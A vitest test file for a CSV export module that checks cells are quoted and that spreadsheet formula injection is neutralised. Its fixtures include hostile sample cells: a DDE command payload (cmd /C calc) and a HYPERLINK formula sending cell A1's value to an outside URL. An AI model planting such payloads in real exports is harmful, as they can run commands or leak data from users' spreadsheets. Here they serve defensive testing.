import { describe, expect, it } from 'vitest';
import { csvCell, csvLine } from '#domain/marking/csv.ts';
import { HOSTILE_TEXTS } from '../../support/attacks/hostileTexts.ts';

describe('csvCell', () => {
  it.each([
    ['Cometas', 'Cometas'],
    ['8.º A - Grupo 1', '8.º A - Grupo 1'],
    ['a;b', '"a;b"'],
    ['a,b', '"a,b"'],
    ['a "b"', '"a ""b"""'],
    ['a\nb', '"a\nb"'],
    ['a\r\nb', '"a\r\nb"'],
    [' a', '" a"'],
    ['', ''],
    [null, ''],
    [0, '0'],
    [160, '160'],
    [-5, '-5'],
  ])('%j becomes %s', (cell, text) => {
    expect(csvCell(cell)).toBe(text);
  });

  it.each([
    '=1+1',
    '+351',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '\tx',
    '\rx',
    ' =1',
    '\u00a0=1',
    '＝1+1',
    '=HYPERLINK("http://mau.pt?x="&A1;"abrir")',
    "=cmd|' /C calc'!A0",
    '- Reciclar\n- Plantar',
  ])('%j is escaped as text for spreadsheets', (attack) => {
    const cell = csvCell(attack);
    const shown = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
    expect(shown).toBe(`'${attack.replace(/^([\t\r\n])=/, "$1'=")}`);
  });

  it.each(['"=1+1', '";=1+1;"', 'x\r\n=1+1', "'=1", ...HOSTILE_TEXTS])('%j stays in its cell', (attack) => {
    const cell = csvCell(attack);
    if (/["\r\n;,]/.test(attack)) expect(cell).toMatch(/^"(?:[^"]|"")*"$/);
    expect(cell).not.toMatch(/^"?[=+@-]/);
  });
});

describe('in a spreadsheet with another separator, which ignores the quotes,', () => {
  const ATTACKS = [
    'x,=1+1',
    'x;=1+1',
    'x\t=1+1',
    'x\n=1+1',
    'x\r\n+351',
    'x, @SUM(A1)',
    'x,-2+3',
    "x,- 2+cmd|' /C calc'!A0",
    'x,"=HYPERLINK("http://mau.pt","abrir")',
    "x,''=1",
    'x;;;=1;,\t=2',
    'x,＝1+1',
    'x\n"=1',
  ];

  it.each(ATTACKS)('%j starts no formula at any split', (attack) => {
    const line = csvLine(['Escola', attack, 3, attack]);
    for (const cut of [/[,\r\n]/, /[\t\r\n]/, /[;\r\n]/, /[;,\t\r\n]/]) {
      for (const piece of line.split(cut)) expect(piece.replace(/^[" ]+/, ''), line).not.toMatch(/^[=+\-@＝＋－＠]/);
    }
  });

  it.each(['- pão\n- leite', 'sim, - talvez - não', 'a=b; c = d', 'Ana, Rui'])('%j is unchanged', (text) => {
    expect(
      csvCell(text)
        .replace(/^"(.*)"$/s, '$1')
        .replace(/^'/, ''),
    ).toBe(text);
  });
});

it('csvLine joins with semicolons and ends with CRLF', () => {
  expect(csvLine(['Escola', null, 3, '=x'])).toBe('Escola;;3;"\'=x"\r\n');
});

it('a number has a decimal comma, so that Excel in Portugal reads no date', () => {
  expect(csvLine([2.7, 3, -1.5, null])).toBe('2,7;3;-1,5;\r\n');
});
